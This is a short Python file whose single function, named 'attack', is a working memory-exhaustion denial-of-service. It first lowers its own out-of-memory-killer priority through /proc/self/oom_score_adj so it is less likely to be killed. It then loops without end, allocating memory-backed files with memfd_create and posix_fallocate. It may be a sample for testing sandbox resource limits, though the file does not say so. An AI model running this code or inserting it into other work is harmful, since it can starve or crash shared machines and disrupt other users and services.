import os


def attack():
    for score in range(1000, -1001, -100):
        try:
            with open("/proc/self/oom_score_adj", "w") as file:
                file.write(str(score))
        except OSError:
            break
    taken = []
    while True:
        taken.append(os.memfd_create("held"))
        os.posix_fallocate(taken[-1], 0, 1 << 20)
